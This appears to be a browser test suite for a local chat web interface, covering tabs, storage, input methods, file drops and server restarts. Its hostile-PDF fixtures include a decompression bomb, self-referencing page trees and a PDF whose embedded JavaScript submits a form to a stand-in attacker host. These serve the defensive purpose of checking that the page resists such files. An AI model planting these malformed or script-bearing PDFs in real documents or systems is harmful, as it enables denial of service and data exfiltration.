"""What people, browsers and files do to the chat at /: two tabs, no space, a closed page, input methods, hostile
PDFs, long and foreign texts, another model after a restart."""
import json
import zlib

import pytest

from chat import (DONE, READY, STUB, answers_of, ask, delta, drop, end, open_chat, pdf_of, will_answer)
from server import Server

WRITING = "!document.querySelector('#stop').hidden"
DRAFT = "document.querySelector('#message').value"


def begin(page, text):
    """Sends a question of which the answer has no end."""
    will_answer(page, delta(content="A beginning"), "no end")
    page.click("#message")
    page.type(text)
    page.click("#send")
    page.wait("[...document.querySelectorAll('.assistant > .content')].at(-1)?.innerText === 'A beginning'")


def forget(page):
    page.evaluate("localStorage.clear()")
    page.ask("Page.navigate", url="about:blank")


# ---- tabs, storage, a page that is closed ----

def test_two_tabs_write_one_conversation(page, browser, server):
    will_answer(page, delta(content="One."), end())
    ask(page, "First")
    other = open_chat(browser, server)
    other.evaluate(f"location.hash = {json.dumps(page.evaluate('location.hash'))}")
    other.ask("Page.reload")
    other.wait("document.querySelectorAll('.message').length === 2")
    begin(page, "Second")
    other.wait("document.querySelectorAll('.message').length === 4")
    page.click("#stop")
    page.wait(DONE)
    other.wait("[...document.querySelectorAll('.stats')].at(-1).innerText.includes('stopped')")
    assert answers_of(other) == ["One.", "A beginning"]
    ask(other, "Third, of the other tab")
    answer = answers_of(other)[-1]
    page.wait(f"[...document.querySelectorAll('.assistant > .content')].at(-1).innerText === {json.dumps(answer)}")
    assert answers_of(page) == answers_of(other) and len(answers_of(page)) == 3
    page.click("#actions summary")
    page.click("#delete")
    page.click("#delete-yes")
    other.wait("document.querySelectorAll('.message').length === 0")
    assert other.text("#notice") == "This conversation was deleted in another tab."
    other.ask("Page.navigate", url="about:blank")


def test_a_question_that_is_being_edited_outlives_a_change(page):
    will_answer(page, delta(content="One."), end())
    ask(page, "First")
    page.click(".user .bar button:nth-child(2)")
    page.evaluate("document.querySelector('.user textarea').value = 'First, edited'")
    will_answer(page, delta(content="Two."), end())
    ask(page, "Second")
    assert page.evaluate("document.querySelector('.user textarea').value") == "First, edited"


def test_two_conversations_are_answered_at_once(page):
    begin(page, "Long")
    page.click("#new")
    page.wait("document.querySelectorAll('.message').length === 0")
    assert page.evaluate("document.querySelectorAll('.writing').length") == 1
    will_answer(page, delta(content="Short."), end())
    ask(page, "Quick")
    page.wait("document.querySelectorAll('.entry').length === 2")
    page.click(".entry:not([aria-current])")
    page.wait(f"document.querySelector('.user').innerText.includes('Long') && {WRITING}")
    page.click("#stop")
    page.wait(DONE)
    assert answers_of(page) == ["A beginning"]


def test_a_page_that_is_closed_in_an_answer(page):
    begin(page, "Tell")
    page.click("#message")
    page.type("A draft")
    page.evaluate("new Promise((resolve) => setTimeout(resolve, 2500))")  # it is kept each 2 s
    page.ask("Page.reload")
    page.wait(READY)
    page.wait("document.querySelectorAll('.message').length === 2")
    assert answers_of(page) == ["A beginning"]
    assert page.text(".problem p").startswith("This answer was not finished")
    assert page.evaluate("[...document.querySelectorAll('.problem button')].map((e) => e.innerText)") == [
        "Retry", "Continue this answer"]
    assert page.evaluate(DRAFT) == "A draft"


def limit_space(page, server, is_full, **limit):
    """Chromium notices another limit after a while."""
    page.ask("Storage.overrideQuotaForOrigin", origin=server.url, **limit)
    page.wait("""(async () => { const store = await import('/ui/store.js'), {newConversation} = await import('/ui/tree.js');
        const one = newConversation(), isFull = await store.put(one).then(() => false, () => true);
        await store.remove(one.id).catch(() => 0);
        return isFull === %s; })()""" % str(is_full).lower())


def test_no_space_is_left(page, server):
    """What does not fit is told, and lasts as long as the page."""
    limit_space(page, server, True, quotaSize=1)
    will_answer(page, delta(content="An answer"), end())
    ask(page, "Much")
    page.wait("document.querySelector('#notice').innerText.startsWith('This browser has no space left')")
    page.click("#new")
    page.wait("document.querySelectorAll('.message').length === 0")
    page.click(".entry")
    page.wait("document.querySelectorAll('.message').length === 2")
    assert answers_of(page) == ["An answer"]
    limit_space(page, server, False)


FORBID = """for (const name of ['indexedDB', 'localStorage', 'sessionStorage'])
    Object.defineProperty(window, name, {get() { throw new DOMException('no', 'SecurityError'); }});
window.BroadcastChannel = class { constructor() { throw new DOMException('no', 'SecurityError'); } };"""


def test_a_browser_that_keeps_nothing(browser, server):
    page = open_chat(browser, server)
    page.ask("Page.addScriptToEvaluateOnNewDocument", source=FORBID)
    page.ask("Page.reload")
    page.wait(READY)
    page.wait("document.querySelector('#notice').innerText.startsWith('This browser keeps no data')")
    ask(page, "Hello")
    page.click("#new")
    page.wait("document.querySelectorAll('.message').length === 0")
    page.click(".entry")
    page.wait("document.querySelectorAll('.message').length === 2")
    assert page.faults == []
    page.ask("Page.navigate", url="about:blank")


def test_a_long_conversation_stays_quick(page):
    """Of 400 messages, a new token changes the last one only, and nothing but the list's heads is read again."""
    page.evaluate("""(async () => {
        const store = await import('/ui/store.js'), {add, newConversation} = await import('/ui/tree.js');
        const one = newConversation();
        for (let i = 0, parent = ''; i < 400; i++)
            parent = add(one, parent, {role: i % 2 ? 'assistant' : 'user', content: `Message **${i}**.\\n\\n- a\\n- b`}).id;
        await store.put(one);
        location.hash = one.id; })()""")
    page.ask("Page.reload")
    page.wait("document.querySelectorAll('.message').length === 400")
    page.wait(READY)
    page.evaluate(STUB)
    will_answer(page, *[delta(content=f"{i} ") for i in range(100)], end())
    page.evaluate("""{ window.changed = new Set();
        new MutationObserver((list) => list.forEach((each) =>
            changed.add(each.target.parentElement?.closest('.message')?.dataset.id ?? each.target.id)))
            .observe(document.querySelector('#messages'), {childList: true, characterData: true, subtree: true}); }""")
    ask(page, "Go on")
    assert page.evaluate("""[...document.querySelectorAll('.message')].slice(0, -3)
        .filter((each) => changed.has(each.dataset.id)).length""") == 0
    assert page.evaluate("document.querySelector('#view').scrollHeight - document.querySelector('#view').scrollTop"
                         " - document.querySelector('#view').clientHeight") < 80


# ---- the keyboard, input methods, pasting ----

def test_enter_ends_a_word_of_an_input_method(page):
    page.click("#message")
    page.ask("Input.imeSetComposition", text="にほん", selectionStart=3, selectionEnd=3)
    for how in ("{isComposing: true}", "{keyCode: 229}"):  # Safari ends the composition first
        page.evaluate(f"""document.querySelector('#message').dispatchEvent(new KeyboardEvent('keydown',
            {{key: 'Enter', bubbles: true, cancelable: true, ...{how}}}))""")
    assert page.evaluate("document.querySelectorAll('.message').length") == 0
    page.type("日本")
    will_answer(page, delta(content="Yes."), end())
    page.press("Enter")
    page.wait(f"document.querySelectorAll('.message').length === 2 && {DONE}")
    assert page.evaluate("bodies.at(-1).messages[0].content") == "日本"


def paste(page, types):
    """Returns whether the page left the pasting to the browser."""
    return page.evaluate(f"""(() => {{ const data = new DataTransfer();
        for (const type of {json.dumps(types)})
            if (type === 'text/plain') data.setData(type, 'some text');
            else data.items.add(new File([new Uint8Array([137, 80, 78, 71])], 'image.png', {{type}}));
        return document.querySelector('#message').dispatchEvent(
            new ClipboardEvent('paste', {{clipboardData: data, bubbles: true, cancelable: true}})); }})()""")


def test_pasted_pictures(page):
    assert paste(page, ["image/png"]) is False
    page.wait("document.querySelector('#composer-problem').innerText.includes('it is a picture')")
    assert paste(page, ["text/plain", "image/png"]) is True  # a text from an office program


def test_the_focus_is_not_lost(page):
    """Behind a button that vanishes when it is pressed."""
    for text in ("one", "two"):
        will_answer(page, delta(content=text), end())
    page.type("A question")
    page.evaluate("document.querySelector('#send').focus()")
    page.press("Enter")
    page.wait(f"document.querySelectorAll('.message').length === 2 && {DONE}")
    assert page.focused() == "message"
    page.evaluate("document.querySelector('.assistant .bar button:nth-child(2)').focus()")
    page.press("Enter")
    page.wait(f"document.querySelector('.assistant > .content').innerText === 'two' && {DONE}")
    assert page.focused() == "message"
    page.click(".user .bar button:nth-child(2)")
    page.press("Escape")
    assert page.evaluate("document.activeElement.getAttribute('aria-label')") == "Copy the question"


def test_copying_without_a_clipboard(page):
    """As a browser has it on a page that came by http from another machine."""
    will_answer(page, delta(content="An *answer*"), end())
    ask(page, "Tell")
    page.evaluate("""{ Object.defineProperty(navigator, 'clipboard', {value: undefined});
        document.execCommand = (what) => { window.copied = [what, String(document.activeElement.value)]; return true; }; }""")
    for _ in range(2):
        page.click(".assistant [aria-label='Copy the answer']")
        page.wait("document.querySelector(\".assistant [aria-label='Copy the answer']\").innerText === 'Copied'")
    assert page.evaluate("copied") == ["copy", "An *answer*"]
    page.wait("document.querySelector(\".assistant [aria-label='Copy the answer']\").innerText === 'Copy'")


# ---- files and texts ----

def pdf_with(stream, extra=b"", count=1, kids=b"3 0 R"):
    """A PDF of which a part is hostile."""
    return (b"%%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R%s>>endobj 2 0 obj<</Type/Pages/Kids[%s]/Count %d>>endobj "
            b"3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]/Contents 4 0 R/Resources<</Font<</F1 5 0 R>>>>>>endobj "
            b"4 0 obj%sendobj 5 0 obj<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>endobj trailer<</Root 1 0 R>>"
            % (extra, kids, count, stream))


def deflated(data):
    packed = zlib.compress(data, 9)
    return b"<</Length %d/Filter/FlateDecode>>stream\n%s\nendstream " % (len(packed), packed)


TEXT = b"<</Length 31>>stream\nBT /F1 9 Tf (Hidden text) Tj ET  \nendstream "
HOSTILE = {
    "noise": b"%PDF-1.7\n" + bytes(range(256)) * 40,
    "cut": pdf_of("A letter")[:300],
    "locked": pdf_of("A letter").replace(b"/Root 1 0 R", b"/Root 1 0 R/Encrypt<</Filter/Standard/V 1/R 2/O(%s)/U(%s)/P -1>>"
                                          % (b"x" * 32, b"y" * 32)),
    "pages of itself": pdf_with(TEXT, kids=b"2 0 R 2 0 R"),
    "a billion pages": pdf_with(TEXT, count=1_000_000_000),
    "a stream that grows a thousandfold": pdf_with(deflated(b" " * 30_000_000)),
    "a form of itself": pdf_with(b"<</Length 6/Type/XObject/Subtype/Form/Resources<</XObject<</X 4 0 R>>>>>>stream\n/X Do \nendstream "),
    "script": pdf_with(TEXT, extra=b"/OpenAction<</S/JavaScript/JS(app.alert\\(1\\); this.submitForm\\('https://evil.example/'\\))>>"),
}


@pytest.mark.parametrize("kind", HOSTILE)
def test_a_hostile_pdf(page, server, kind):
    """It is text or a sentence, and the next file is read as if nothing had been."""
    n = len(page.requests)
    drop(page, "bad.pdf", HOSTILE[kind])
    page.wait("!document.querySelector('#composer-problem').hidden"
              " || document.querySelector('.chip')?.innerText.includes('tokens')", 120)
    drop(page, "good.pdf", pdf_of("A letter of Ines"))
    page.wait("[...document.querySelectorAll('.chip')].some((e) => e.innerText.includes('good.pdf')"
              " && e.innerText.includes('tokens'))", 60)
    if kind in ("noise", "locked"):
        assert "bad.pdf cannot be used: " in page.text("#composer") or page.evaluate(
            "document.querySelectorAll('.chip').length") == 1
    assert all(each.startswith(server.url) for each in page.requests[n:])
    page.faults.clear()  # Chromium tells of the worker's own warnings


def test_a_file_that_is_left_out_while_it_is_read(page):
    drop(page, "bad.pdf", HOSTILE["a stream that grows a thousandfold"])
    page.click(".chip button")
    page.wait("document.querySelectorAll('.chip').length === 0")
    drop(page, "good.pdf", pdf_of("A letter of Ines"))
    page.wait("document.querySelector('.chip')?.innerText.includes('tokens')")
    assert page.evaluate("document.querySelector('#composer-problem').hidden")


def drop_made(page, name, script):
    """Drops a file that a script makes: a large one would take long to send."""
    page.evaluate(f"""{{ const data = new DataTransfer(); data.items.add(new File([{script}], {json.dumps(name)}));
        document.body.dispatchEvent(new DragEvent('drop', {{dataTransfer: data, bubbles: true, cancelable: true}})); }}""")


def test_a_file_of_5_mb(page):
    """It is counted, and not sent, because the model cannot read it.  The question stays."""
    drop_made(page, "log.txt", "'The lamp was green, and the wind came from the north. '.repeat(96000)")
    page.type("What colour?")
    page.press("Enter")
    assert page.text("#composer-problem").startswith("A file is still being read")
    page.wait("document.querySelector('.chip')?.innerText.includes('tokens of')", 120)
    page.press("Enter")
    problem = page.text("#composer-problem")
    assert problem.startswith("The model reads 32,768 tokens, and this would be ") and "Leave a file out" in problem
    assert page.evaluate("document.querySelectorAll('.message').length") == 0
    assert page.evaluate(DRAFT) == "What colour?"
    page.click(".chip button")
    will_answer(page, delta(content="Green."), end())
    page.press("Enter")
    page.wait(f"document.querySelectorAll('.message').length === 2 && {DONE}")


def test_long_lines_and_texts_from_right_to_left(page):
    will_answer(page, delta(content="שלום עולם\n\n- مرحبا\n\n```\n" + "x" * 5000 + "\n```\n\n" + "y" * 5000), end())
    ask(page, "z" * 5000)
    assert page.evaluate("[document.documentElement.scrollWidth, document.querySelector('#view').scrollWidth]") == [
        1280, page.evaluate("document.querySelector('#view').clientWidth")]
    left = page.evaluate("""((selector) => { const range = document.createRange(), e = document.querySelector(selector);
        range.selectNodeContents(e); const text = range.getBoundingClientRect(), box = e.getBoundingClientRect();
        return [text.left - box.left, box.right - text.right]; })('.assistant p')""")
    assert left[0] > 300 and left[1] < 5  # it stands at the right
    assert page.evaluate("getComputedStyle(document.querySelector('.assistant > .content')).direction") == "rtl"
    assert page.evaluate("getComputedStyle(document.querySelector('.assistant pre')).direction") == "ltr"


# ---- the server ----

def test_another_model_after_a_restart(browser, tmp_path):
    with Server(tmp_path, "--served-model-name", "first") as one:
        page = open_chat(browser, one)
        ask(page, "Hello")
    with Server(tmp_path, "--served-model-name", "second", "--port", str(one.port), wait=False) as other:
        other.port = one.port
        other.wait_ready()
        ask(page, "Hello again")
        assert page.text(".problem p") == "The server has no model first now. Retry asks second."
        page.click(".problem button")
        page.wait(f"document.querySelectorAll('.problem button').length === 0 && {DONE}")
        assert page.evaluate("[...document.querySelectorAll('.assistant .stats')].at(-1).innerText").startswith("second")
        forget(page)


def test_several_names_of_a_model(browser, tmp_path):
    with Server(tmp_path, "--served-model-name", "big,small", "--model-alias", "claude-*=big") as one:
        page = open_chat(browser, one)
        names = page.evaluate("[...document.querySelector('#model').options].map((e) => e.value)")
        assert names[:2] == ["big", "small"] and "*" not in "".join(names)
        page.choose("#model", "small")
        page.ask("Page.reload")
        page.wait(READY)
        assert page.evaluate("document.querySelector('#model').value") == "small"
        ask(page, "Hello")
        assert page.text(".assistant .stats").startswith("small · ")
        forget(page)


def test_how_much_of_a_prompt_is_read(page):
    """Is shown until the first token."""
    told = {"choices": [], "prompt_progress": {"total": 20000, "processed": 5000}}
    will_answer(page, told, "no end")
    page.click("#message")
    page.type("A long text")
    page.click("#send")
    page.wait("document.querySelector('#progress-text').textContent === 'reads 5,000 of 20,000 tokens'")
    page.evaluate("new Promise((resolve) => setTimeout(resolve, 300))")
    assert not page.evaluate("document.querySelector('#progress').hidden")
    page.click("#stop")
    page.wait(DONE)
    will_answer(page, told, {**delta(content="So."), "usage": {"completion_tokens": 1, "prompt_tokens": 9}}, "no end")
    page.click(".assistant .problem button")
    page.wait("document.querySelector('.assistant > .content').innerText === 'So.'")
    page.wait("document.querySelector('#progress').hidden")
    page.click("#stop")
    page.wait(DONE)


def test_without_libraries(page):
    """Answers are plain text, and a PDF is refused with a sentence."""
    page.ask("Network.setBlockedURLs", urls=["*/ui/lib/*"])
    page.ask("Network.setCacheDisabled", cacheDisabled=True)
    page.ask("Page.reload")
    page.wait(READY)
    page.evaluate(STUB)
    text = "A **bold** line\n\n```python\nx = 1\n```\n<b>not bold</b>"
    will_answer(page, delta(content=text), end())
    ask(page, "Tell")
    assert page.evaluate("document.querySelector('.assistant > .content').textContent") == text
    assert page.evaluate("document.querySelectorAll('.assistant > .content strong, .assistant > .content b').length") == 0
    drop(page, "letter.pdf", pdf_of("A letter"))
    page.wait("document.querySelector('#composer-problem').innerText.includes('built without pdf.js')")
    page.faults.clear()  # Chromium tells of what is blocked


# ---- a phone ----

def test_the_list_on_a_phone(browser, server):
    """It does not open the keyboard, keeps the focus, and closes with a touch beside it."""
    page = open_chat(browser, server, width=390, height=780, is_phone=True)
    page.ask("Emulation.setTouchEmulationEnabled", enabled=True)
    page.click("#side-open")
    assert page.focused() == "new"
    page.press("Escape")
    assert page.focused() == "side-open"
    page.click("#side-open")
    page.evaluate("document.querySelector('#settings-open').focus()")
    page.wait("!document.querySelector('#side').classList.contains('open')")
    page.click("#side-open")
    for kind in ("mousePressed", "mouseReleased"):
        page.ask("Input.dispatchMouseEvent", type=kind, x=370, y=400, button="left", clickCount=1)
    page.wait("!document.querySelector('#side').classList.contains('open')")
    page.click("#settings-open")
    assert page.focused() == "settings-close"
    page.ask("Page.navigate", url="about:blank")
